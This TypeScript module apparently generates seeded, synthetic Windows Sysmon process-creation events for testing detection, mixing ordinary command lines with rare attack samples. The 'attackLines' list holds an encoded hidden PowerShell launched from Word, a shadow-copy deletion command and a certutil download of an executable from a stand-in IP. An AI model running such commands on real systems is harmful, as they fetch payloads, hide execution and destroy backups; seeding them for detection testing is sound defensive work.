/**
 * Processes that start on Windows hosts, seeded, in Sigma's taxonomy, as a forwarder of other people's sensors would send
 * them. One in 1,000 is an attack. What makes a command line its own is marked.
 */
import type { ExternalBatch, ExternalEvent } from '../../../schemas/generated/types.gen.ts';
import type { MixOptions } from './linux-mix.ts';
import { randomFrom, type Random } from './random.ts';
import { firstSeq, wordFrom, type Mark } from './renewed-batches.ts';

interface Start {
  readonly weight: number;
  readonly image: string;
  readonly parent: string;
  readonly line: (token: string) => string;
}

const system = 'C:\\Windows\\System32\\';
const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';

const starts: readonly Start[] = [
  { weight: 12, image: `${system}svchost.exe`, parent: `${system}services.exe`, line: (token) => `${system}svchost.exe -k netsvcs -p -s ${token}` },
  { weight: 8, image: `${system}conhost.exe`, parent: `${system}cmd.exe`, line: (token) => `\\??\\${system}conhost.exe 0xffffffff -ForceV1 ${token}` },
  { weight: 6, image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', parent: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', line: (token) => `"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=${token}` },
  { weight: 4, image: `${office}WINWORD.EXE`, parent: 'C:\\Windows\\explorer.exe', line: (token) => `"${office}WINWORD.EXE" /n "C:\\Users\\ann\\Documents\\${token}.docx" /o ""` },
  { weight: 4, image: `${system}backgroundTaskHost.exe`, parent: `${system}svchost.exe`, line: (token) => `"${system}backgroundTaskHost.exe" -ServerName:${token}` },
  { weight: 3, image: `${system}cmd.exe`, parent: 'C:\\Program Files\\Vendor\\Agent\\agent.exe', line: (token) => `cmd /d /s /c "collect-metrics ${token}"` },
  { weight: 3, image: 'C:\\Program Files\\Git\\cmd\\git.exe', parent: 'C:\\Program Files\\Microsoft VS Code\\Code.exe', line: (token) => `git.exe show --textconv :${token}.ts` },
  { weight: 2, image: `${system}taskhostw.exe`, parent: `${system}svchost.exe`, line: (token) => `taskhostw.exe ${token}` },
];

const attackLines: readonly Omit<Start, 'weight'>[] = [
  { image: `${system}WindowsPowerShell\\v1.0\\powershell.exe`, parent: `${office}WINWORD.EXE`, line: () => 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA' },
  { image: `${system}vssadmin.exe`, parent: `${system}cmd.exe`, line: () => 'vssadmin.exe delete shadows /all /quiet' },
  { image: `${system}certutil.exe`, parent: `${system}cmd.exe`, line: () => 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe' },
];

/** Different programs, by their hashes. */
const hashes = 500;

export class WindowsMix {
  private readonly random: Random;
  private readonly options: MixOptions;
  private seq = firstSeq - 1;

  constructor(options: MixOptions) {
    this.options = options;
    this.random = randomFrom(options.seed);
  }

  batch(): ExternalBatch {
    return this.marked().batch;
  }

  /** A batch, and the marks of each event. */
  marked(): { readonly batch: ExternalBatch; readonly marks: readonly (readonly Mark[])[] } {
    const words = Array.from({ length: this.options.eventsPerBatch }, () => wordFrom(this.random));
    const events = words.map(({ text }) => this.event(text));
    return { batch: { source: `desk-${this.random.below(50)}`, stream: 'Microsoft-Windows-Sysmon/Operational', events }, marks: words.map((word) => [word]) };
  }

  private event(token: string): ExternalEvent {
    const { image, parent, line } = this.random.below(1_000) === 0 ? this.random.of(attackLines) : this.random.weighted(starts);
    const name = image.slice(image.lastIndexOf('\\') + 1);
    this.seq += 1;
    const fields = {
      UtcTime: '2026-05-28 20:26:40.123', ProcessGuid: `{3F0C9A52-${this.seq.toString(16)}}`, ProcessId: String(4 + this.random.below(30_000)), Image: image, FileVersion: '10.0.19041.1', Description: name, Product: 'Operating System', Company: 'Vendor',
      OriginalFileName: name, CommandLine: line(token), CurrentDirectory: 'C:\\Users\\ann\\', User: 'CORP\\ann', LogonId: '0x3e7', IntegrityLevel: 'Medium', Hashes: `SHA256=${randomFrom(this.random.below(hashes)).word(64)}`, ParentImage: parent, ParentCommandLine: `"${parent}"`,
    };
    return { seq: this.seq, time: 1_780_000_000_000_000_000n + BigInt(this.seq), category: 'process_creation', product: 'windows', service: null, fields };
  }
}
